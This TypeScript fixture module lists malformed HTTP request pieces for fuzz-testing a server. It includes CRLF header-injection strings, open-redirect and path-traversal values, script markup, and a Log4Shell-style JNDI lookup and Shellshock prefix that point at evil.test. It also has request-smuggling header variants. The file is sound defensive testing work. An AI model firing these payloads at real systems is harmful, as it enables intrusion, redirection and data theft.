/** Pieces of which broken requests are made. A character stands for a byte. */

/** The name of the header that no answer may have: every attempt at an injection tries to add it. */
export const INJECTED = 'x-injected';

/** Markup that a page may not contain as it is. */
export const MARKUP = '<script>zz';

export const utf8 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

export const METHODS = [
  'GET', 'GET', 'GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'CONNECT', 'PROPFIND', 'MKCOL', 'PURGE', 'SEARCH', 'LOCK',
  'M-SEARCH', 'LINK', 'REPORT', 'SOURCE', 'QUERY', 'PRI', 'get', 'Post', 'FOO', '', 'G ET', 'GET\t', 'GET\0', '__proto__', 'CONSTRUCTOR', 'toString', 'X'.repeat(300), utf8('GÉT'),
] as const;

export const VERSIONS = ['HTTP/1.1', 'HTTP/1.0', 'HTTP/0.9', 'HTTP/2.0', 'HTTP/1.2', 'HTTP/11.1', 'HTTP/1.1 ', 'http/1.1', 'HTTP/1', 'HTTP', '', 'ICE/1.0', 'RTSP/1.0', 'HTTP/1.1\t', 'HTTP/+1.1'] as const;

export const PATH_SCRAPS = [
  '%', '%2', '%zz', '%00', '%0a', `%0d%0a${INJECTED}:%201`, '%2e%2e', '%2e%2e%2f', '..', '../', '/..', './', '//', '///evil.test', '/\\evil.test', '%5c', '%2f', '%252f', '%25', '%c0%af',
  '%e0%80%af', '%ff%fe', '%ed%a0%80', '%f4%90%80%80', '%u0041', '%C3%A9', utf8('é'), '\xff', '\x80', ';a=b', ';jsessionid=1', '@', ':', '*', '~', '{}', '[', ']', '|', '^', '`',
  '"', '<', '>', MARKUP, '%3Cscript%3Ezz', '\\', '#', '#a', ' ', '\t', '\0', '\x01', '\x7f', '__proto__', 'constructor', 'hasOwnProperty', '%5F%5Fproto%5F%5F', '0', '-1', '00', '1e3',
  '9007199254740993', '99999999999999999999999', '+1', '%2B1', '%31', 'NaN', 'a'.repeat(100), '%41'.repeat(100), 'x'.repeat(4000), '/'.repeat(500), '%2e%2f'.repeat(200), 'x'.repeat(17_000),
] as const;

export const QUERY_SCRAPS = [
  'q=', 'q', '=', '&', '&&', '=&=', 'q=1&q=2', 'q[]=1', 'q[a]=1', 'q[__proto__]=1', '__proto__=1', '__proto__[x]=1', 'constructor=1', 'constructor.prototype=1', 'toString=1', 'page=', 'page=0', 'page=-1', 'page=1.5',
  'page=1e400', 'page=Infinity', 'page=NaN', 'page=0x10', 'page=٣', 'page=1&page=2', 'page=%31', 'page=+1', 'page= 1', 'least=1,5', 'least=--1', 'least=1e-400', 'least=.', 'exact=maybe', 'exact=', 'exact=on',
  'since=never', 'since=2026-02-30', 'since=0', 'since=-1', 'since=99999999999999', 'since=2026-01-01T00:00:00+99:99', 'since=%00', 'tag=a&tag=b', 'tag=%', 'q=%', 'q=%zz', 'q=%00', `q=%0d%0a${INJECTED}:%201`, 'q=%ff',
  'q=%C3%A9', 'q=%ed%a0%80', 'q=%F0%9F%98%80', 'q=+', 'q=%2B', `q=${MARKUP}`, 'q=%3Cscript%3Ezz%22%27', 'q=%E2%80%A8', `q=${utf8('é')}`, 'q=\xff', `q=${'a'.repeat(5000)}`, `q=${'%41'.repeat(2000)}`, '&'.repeat(2000),
  Array.from({ length: 1100 }, (_, index) => `f${index}=1`).join('&'), '?', '??', 'q=1?q=2', ';q=1;page=2', 'next=/', 'next=//evil.test', 'next=https://evil.test/', 'next=javascript:alert(1)', 'next=%09//evil.test',
  'next=/%5Cevil.test', 'next=%5C%5Cevil.test', `next=/%0d%0a${INJECTED}:%201`, 'next=', 'next=page', 'next=output-go', 'next=input-item', 'next=a.b', 'next=a:b', 'next=a:b:c', 'next=http:///', 'next=http://[', 'next=https:evil.test',
  'next=//[::1', 'next=///', 'next=data:text/html,x', 'next=%00', 'next=/%F0%9F%98%80', 'next=/%ff', `next=/${'a'.repeat(3000)}`, 'next=https://example.org/', 'next=https://example.org@evil.test/', 'next=%E2%80%8B//evil.test',
  'name=..%2f..%2fetc%2fpasswd', 'name=a%22%0d%0ab', 'name=%00', 'name=', 'name=%F0%9F%98%80.png', 'name=a.html', `name=${'n'.repeat(400)}`, 'name=%5C', 'name=con', 'name=%ff', 'name=.', 'name=%01.txt', 'name=%7f', 'name=%E2%80%AEgnp.exe',
  'value=a', 'value=%0d', 'value=%0a', `value=%0d%0a${INJECTED}:%201`, 'value=%00', 'value=%01', 'value=%7f', 'value=%09', 'value=%C3%A9', 'value=%F0%9F%98%80', 'value=%ff', 'value=%ed%a0%80', `value=${'v'.repeat(6000)}`, 'value=+', 'value=%85',
  'choice=a;b', 'choice=%22', 'choice=%3B%20Secure', `choice=%0d%0aSet-Cookie:%20${INJECTED}=1`, 'choice=%00', 'choice=%F0%9F%98%80', `choice=${'c'.repeat(5000)}`, 'ticket=a:b:c', 'ticket=%0a', 'ticket=%ff',
  'row=a,b', 'row=%22', 'row=%0d%0a', 'row==1%2B1', 'flag=', 'flag=1', 'flag=2', 'flag=TRUE', 'flag=yes&flag=no',
] as const;

export const HEADER_VALUES = [
  '', ' ', '\t', '\0', '\x01', '\x7f', '\xff', utf8('é'), '"', '""', '"unclosed', '\\', ',', ',,,', ';', ';;', '=', '*', '%', '%00', 'a'.repeat(1000), 'a'.repeat(7000), 'a'.repeat(20_000), `a\r\n${INJECTED}: 1`, `a\n${INJECTED}: 1`,
  `a\r${INJECTED}: 1`, 'a\r\n b', '__proto__', 'constructor', '-1', '0', '1', '1e3', 'NaN', 'undefined', 'null', '[object Object]', MARKUP, '=?utf-8?B?4pyT?=', '${jndi:ldap://evil.test}', '() { :; }; echo', ','.repeat(5000), ';q=1'.repeat(1000),
] as const;

export const HEADERS: Readonly<Record<string, readonly string[]>> = {
  'Host': ['evil.test', 'example.org', 'shop.example.org', 'example.org:80', 'example.org:99999', 'example.org:', 'example.org:x', 'EXAMPLE.ORG', 'example.org.', '.example.org', 'example.org@evil.test', 'evil.test@example.org', 'example.org/evil', 'example.org\\evil', '[::1]', '[::1', '[fe80::1%25eth0]', '::1', '127.0.0.1', 'a b', '', 'xn--', '-', '_', 'example.org,evil.test', 'example.org evil.test', '%65xample.org', utf8('éxample.org')],
  'Accept': ['*/*', 'text/html', 'application/json', 'application/json;q=0', '*/*;q=0', 'text/*;q=0.5,*/*;q=0.1', 'text/html;q=2', 'text/html;q=', 'text/html;q=a', 'text', '/', '*/html', 'text/html;level=1;q=0.000', 'a/b;c="d,e";q=1', '"', ';', ',', 'text/html,'.repeat(800), 'application/xhtml+xml', 'image/png', 'text/plain', 'text/html;charset="'],
  'Accept-Encoding': ['gzip', 'br', 'deflate', 'zstd', 'identity', '*', 'gzip;q=0', 'identity;q=0', '*;q=0', 'gzip;q=1.5', 'gzip;q=', 'GZIP', 'x-gzip', 'gzip,br;q=0.9,*;q=0', ',', 'gzip;;q=1', 'identity;q=0,gzip;q=0'],
  'Accept-Language': ['de', 'de-DE;q=0.8,*', '*', ';', 'x'.repeat(500), '..'],
  'Accept-Charset': ['utf-8', 'iso-8859-1;q=0', '*'],
  'Range': ['bytes=0-', 'bytes=0-0', 'bytes=-1', 'bytes=-0', 'bytes=-', 'bytes=', 'bytes', 'bytes=1-0', 'bytes=9999-', 'bytes=0-99999999999999999999', 'bytes=-99999999999999999999', 'bytes=0-1,2-3', 'bytes=0-1,0-1,0-1', 'bytes=0-,'.repeat(1000), 'bytes=a-b', 'bytes= 0 - 1', 'bytes=0x1-2', 'lines=0-1', 'bytes=0-1;', 'bytes=1.5-2', 'bytes=--1', 'bytes=4999-5000', 'bytes=5000-', 'Bytes=0-1', 'bytes=0-1,5-,-3'],
  'If-Range': ['"v7"', 'W/"v7"', '"', 'Fri, 02 Jan 2026 03:04:05 GMT', 'yesterday', '*', ''],
  'If-None-Match': ['"v7"', 'W/"v7"', '*', '"v7', 'v7', '"a", "v7"', ',', '"",""', '"\xff"', '"a",'.repeat(1000), '*, "v7"'],
  'If-Match': ['"v7"', 'W/"v7"', '*', '"v8"', '"', ',', '"v7", "v8"', '""'],
  'If-Modified-Since': ['Fri, 02 Jan 2026 03:04:05 GMT', 'Friday, 02-Jan-26 03:04:05 GMT', 'Fri Jan  2 03:04:05 2026', 'yesterday', '0', '-1', 'Thu, 01 Jan 1970 00:00:00 GMT', 'Thu, 99 Foo 9999 99:99:99 GMT', 'Sat, 31 Dec 99999 00:00:00 GMT', '2026-01-02T03:04:05Z'],
  'If-Unmodified-Since': ['Fri, 02 Jan 2026 03:04:05 GMT', 'Thu, 01 Jan 2020 00:00:00 GMT', 'x', '1e99'],
  'Cookie': ['a=1', 'a', '=', '=a', 'a=', ';', ';;;', 'a=1; a=2', 'a="b', 'a="\\', 'a="\\054"', 'a=%', 'a=%zz', 'a=\xff', '__proto__=1', 'constructor=1; toString=2', 'visits=1', 'visits=x', 'visits=1e999', 'visits=', 'ticket=a', 'ticket=a:b:c', 'ticket=:', 'ticket=::', 'ticket=a:b:', 'ticket=v:1zzzzz:AAAA', `ticket=${'a'.repeat(3000)}`, 'a=1;'.repeat(1500), 'a,b=c', 'a=b,c=d', 'a b=c', '\x01=\x02', '$Version=1; a=b', 'ticket=a:1uuuuu:%ff'],
  'Content-Type': ['application/json', 'application/json; charset=utf-8', 'application/json; charset=utf-16', 'application/json; charset=latin1', 'application/json; charset=', 'application/json; charset="utf-8', 'APPLICATION/JSON', 'application/json ;charset=UTF8', 'application/vnd.api+json', '+json', 'application/+json', 'text/json', 'application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=shift_jis', 'application/x-www-form-urlencoded; charset=utf-8', 'multipart/form-data', 'multipart/form-data; boundary=', 'multipart/form-data; boundary=""', 'multipart/form-data; boundary=XbX', 'multipart/form-data; boundary="XbX"', `multipart/form-data; boundary=${'b'.repeat(300)}`, 'multipart/form-data; boundary=a b', 'multipart/form-data; boundary=XbX; boundary=YbY', 'multipart/form-data; boundary=\xff', 'multipart/mixed; boundary=XbX', 'text/plain', 'text/plain; charset=utf-16le', 'text/plain; charset=utf-7', 'text/plain; charset=x', 'text/plain; charset=__proto__', 'text/html', 'application/octet-stream', '', '/', 'a', 'a/', '/b', 'a/b/c', '*/*', 'application/json, text/plain', 'application/json\ttext', ' application/json', 'application/json;a=b;a=c;charset=utf-8', "application/json; charset*=utf-8''x", ';charset=utf-8', 'application/xml', 'image/png', `application/json${';a=b'.repeat(1500)}`],
  'Content-Encoding': ['gzip', 'deflate', 'br', 'identity', 'gzip, gzip', 'gzip, br', 'x-gzip', 'compress', 'zstd', '', ',', 'GZIP', 'gzip;q=1', 'foo', 'aws-chunked'],
  'Content-Length': ['0', '1', '5', '-1', '+5', '0x5', '5.0', '1e3', '99999999999999999999', '5, 5', '5,6', '', ' ', 'a', '05', '5 ', '\t5', '131073', '99999999'],
  'Transfer-Encoding': ['chunked', 'identity', 'gzip', 'gzip, chunked', 'chunked, gzip', 'chunked, chunked', 'xchunked', 'CHUNKED', ' chunked', 'chunked ', '', ',chunked', 'chunked;a=b', '"chunked"', 'chunk\0ed', 'chunked\x0b'],
  'Connection': ['close', 'keep-alive', 'upgrade', 'Upgrade, HTTP2-Settings', 'close, keep-alive', 'te', ',', 'content-length', 'host', 'transfer-encoding'],
  'Upgrade': ['websocket', 'h2c', 'TLS/1.0', ''],
  'Expect': ['100-continue', '100-Continue', '200-ok', '', '100-continue, x'],
  'Origin': ['https://app.example', 'https://evil.test', 'null', '', 'https://app.example.evil.test', 'https://app.example:443', 'HTTPS://APP.EXAMPLE', '//app.example', 'https://app.example/', '\xff', 'https://app.example, https://evil.test'],
  'Access-Control-Request-Method': ['PUT', 'FOO', '', 'put', 'GET, PUT', '\xff'],
  'Access-Control-Request-Headers': ['content-type', 'x-evil', ',', 'a,'.repeat(1000), `x\r\n${INJECTED}: 1`],
  'Referer': ['https://evil.test/', 'x', ''],
  'Forwarded': ['for=1.2.3.4', 'for="[::1]:80";proto=https;host=example.org', 'proto=gopher', 'host=evil.test', 'for=', 'for="', 'for=unknown', 'for=_x', ',', ';', 'for=1;for=2', 'for=a,for=b'.repeat(500), 'host="example.org\\"', 'by=;for=', "for=''", 'proto=https;proto=http'],
  'X-Forwarded-For': ['1.2.3.4', '1.2.3.4, 127.0.0.1', ',', ',,', '::1', '[::1]:80', 'unknown', '999.1.1.1', MARKUP, '127.0.0.1,'.repeat(1000), '1.2.3.4:80', 'fe80::1%eth0', '\xff'],
  'X-Forwarded-Proto': ['https', 'http', 'HTTPS', 'https,http', 'gopher', 'javascript', '', 'on', ' https'],
  'X-Forwarded-Host': ['evil.test', 'example.org', 'example.org, evil.test', '', 'a b', 'example.org:99999', '[', 'evil.test@example.org'],
  'X-Forwarded-Port': ['443', 'x', '-1', '99999', ''],
  'X-Forwarded-Prefix': ['/a', '..', '//evil.test'],
  'X-Forwarded-Server': ['a', 'b'],
  'X-Real-Ip': ['1.2.3.4', 'x'],
  'X-Http-Method-Override': ['DELETE', 'TRACE', 'x'],
  'X-Original-Url': ['/admin/', '/orders/'],
  'X-Rewrite-Url': ['/admin/'],
  'X-Request-Id': ['trace-0001', 'short', 'a'.repeat(129), `a\r\n${INJECTED}: 1`, '\xff'.repeat(10), MARKUP, 'trace\x1b[31m'],
  'X-Count': ['1', 'x', '1e400', '', '0x1', '1, 2', '١', '--1'],
  'X-Csrftoken': ['x', ''],
  'X-Requested-With': ['XMLHttpRequest'],
  'User-Agent': ['', 'BadBot/1', MARKUP, '\xff', 'a'.repeat(3000)],
  'Authorization': ['Basic', 'Basic !', 'Basic YQ==', 'Bearer', 'Bearer \xff', 'Digest a="'],
  'Te': ['trailers', 'gzip', ''],
  'Trailer': ['x-a', 'content-length', 'host'],
  'Max-Forwards': ['0', 'x'],
  'Cache-Control': ['no-cache', 'max-age=0', '"'],
  'Sec-Fetch-Site': ['cross-site', 'same-origin', 'x'],
  'Proxy-Connection': ['keep-alive'],
  'Proxy': ['http://evil.test'],
  'Date': ['x'],
  'Content-Disposition': ['attachment; filename="x"'],
  'Content-Range': ['bytes 0-1/2', 'x'],
  'Content-Location': ['/'],
  'Http2-Settings': ['AAMAAABkAAQAAP__'],
  'Sec-WebSocket-Key': ['x'],
  'Set-Cookie': ['a=b'],
  'Location': ['//evil.test'],
};

export const HEADER_NAMES = ['X-A', 'x', '', ' ', 'X A', 'X-A ', '\tX', 'X\0', 'X\xff', 'X(', 'X:', ':', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'Content_Length', 'content-length ', 'X'.repeat(2000), '"X"', '@', utf8('É')] as const;

export const JSON_SCRAPS = [
  '{', '}', '[', ']', '"', '\\', ',', ':', 'null', 'true', '1e999', '-0', '0x1', '01', '.5', '1.', '+1', 'NaN', 'Infinity', '-', '"__proto__":{"x":1},', '"constructor":{"prototype":{"x":1}},', '"\\u005f\\u005fproto__":1,', '\\u0000', '\\ud800', '\\x41', '\u0000', '\xff',
  '\xef\xbb\xbf', '/*c*/', '//c\n', "'", '\t', '\n', '\x0b', '\xa0', '"a":1,"a":2,', '9007199254740993', '1e-400', '123456789012345678901234567890', '['.repeat(70), '{"a":'.repeat(70), '[1,'.repeat(2000), '"\\uD83D\\uDE00"', 'undefined', MARKUP, '"' + 'k'.repeat(5000) + '":1,',
] as const;

export const FORM_SCRAPS = ['&', '=', '%', '%zz', '%00', '%ff', '+', ';', '__proto__=1&', 'constructor=1&', 'subject=a&subject=b&', 'subject[]=1&', 'rating=x&', 'rating=1e400&', 'rating=&', 'copy=maybe&', 'topics=sales&topics=hr&', '\0', '\xff', utf8('é'), '%C3', '&'.repeat(1500), 'a=b&'.repeat(1100), `x=${'y'.repeat(5000)}&`, 'next=//evil.test&', 'next=/&', '\r\n', '%E2%80%A8', '[a][b]=1&'] as const;

export const MULTIPART_SCRAPS = [
  '\r\n', '\n', '\r', '--', '-', '--XbX', '--XbX--', '--XbX\r\n', '\r\n--XbX\r\n', '\r\n\r\n', 'Content-Disposition: form-data; name="a"\r\n', 'Content-Disposition: form-data\r\n', 'Content-Disposition: attachment; name="a"\r\n', '; filename="x"', '; filename="../../x"', '; filename="C:\\x"', '; filename=""',
  "; filename*=UTF-8''%ff", "; filename*=x''a", '; name="b"', '; name="__proto__"', 'Content-Transfer-Encoding: base64\r\n', 'Content-Transfer-Encoding: quoted-printable\r\n', 'Content-Transfer-Encoding: x\r\n', 'Content-Type: text/plain; charset=x\r\n', 'Content-Type: multipart/mixed; boundary=YbY\r\n', 'Content-Length: 5\r\n',
  '\0', '\xff', utf8('é'), '"', '\\', ':', '=', '\t', ' ', `X: ${'h'.repeat(9000)}\r\n`, 'X-Long: a\r\n b\r\n', '_charset_', 'a'.repeat(3000), '\r\n--XbX\r\nContent-Disposition: form-data; name="files"; filename="f"\r\n\r\nx'.repeat(110),
] as const;
